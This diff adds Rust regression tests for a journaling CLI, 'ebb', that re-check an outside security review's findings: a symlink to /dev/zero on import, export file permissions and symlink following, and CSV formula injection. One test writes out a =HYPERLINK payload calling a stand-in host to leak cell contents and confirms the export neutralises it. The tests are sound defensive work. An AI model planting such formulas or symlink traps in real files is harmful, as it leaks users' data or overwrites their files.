@@ -1,0 +1,89 @@
+//! Findings of the outside security review (issue 13), each tried again through the real
+//! `ebb` binary: what the review did, and what must happen now.
+
+mod common;
+
+use std::os::unix::fs::PermissionsExt;
+
+use common::*;
+
+#[test]
+fn import_of_a_link_to_dev_zero_is_refused_at_once_and_changes_nothing() {
+    let s = Scratch::with_journal();
+    s.ebb(&["write", "kept", "--date", "2026-11-20"]).ok();
+    let before = s.export();
+    let link = s.path("looks-like-an-export.json");
+    std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
+    // Before: the size check read a length of 0 and the read ran out of memory.
+    let err = s.ebb(&["import", link.to_str().unwrap()]).fails(2);
+    assert!(err.contains("is not a file Ebb can import"), "{err}");
+    let mut after = s.export();
+    after["exported_at"] = before["exported_at"].clone();
+    assert_eq!(after, before);
+}
+
+#[test]
+fn output_onto_an_open_file_makes_it_private_and_a_link_is_not_followed() {
+    let s = Scratch::with_journal();
+    s.ebb(&["write", "private words", "--date", "2026-11-20"]).ok();
+    let out = s.path("export.csv");
+    std::fs::write(&out, "someone else's much longer file").unwrap();
+    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
+    s.ebb(&["export", "--format", "csv", "-o", out.to_str().unwrap()]).ok();
+    // Before: the file stayed 0644 (readable by every user) while the CLI said "keep it private".
+    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
+    assert!(std::fs::read_to_string(&out).unwrap().contains("private words"));
+
+    let target = s.path("shared-notes.txt");
+    std::fs::write(&target, "not to be touched").unwrap();
+    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let link = s.path("report.md");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    s.ebb(&["report", "--format", "markdown", "-o", link.to_str().unwrap()]).ok();
+    // Before: the report went through the link into the other file.
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "not to be touched");
+    let meta = std::fs::symlink_metadata(&link).unwrap();
+    assert!(meta.file_type().is_file() && meta.permissions().mode() & 0o777 == 0o600);
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert() {
+    let s = Scratch::with_journal();
+    s.ebb(&[
+        "write",
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+        "--date",
+        "2026-11-20",
+        "--tag",
+        "@home",
+    ])
+    .ok();
+    s.ebb(&[
+        "episode",
+        "--kind",
+        "pursuit",
+        "--actor",
+        "me",
+        "--trigger",
+        "+1 more late night",
+        "--at",
+        "2026-11-21 21:00",
+    ])
+    .ok();
+    s.ebb(&["write", "a plain day - nothing to run", "--date", "2026-11-22"]).ok();
+    let csv = s.ebb(&["export", "--format", "csv"]).ok();
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
+    let head = r.headers().unwrap().clone();
+    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
+    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
+    // Before: each of these began with = + @, which Excel and LibreOffice evaluate.
+    for cell in &cells {
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "a live formula: {cell:?}\n{csv}");
+    }
+    let texts: Vec<&str> = rows.iter().map(|row| &row[col("text")]).collect();
+    assert!(texts.contains(&"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"), "{texts:?}");
+    assert!(texts.contains(&"a plain day - nothing to run"), "{texts:?}");
+    assert!(rows.iter().any(|row| &row[col("tags")] == "'@home"));
+    assert!(rows.iter().any(|row| &row[col("trigger")] == "'+1 more late night"));
+}
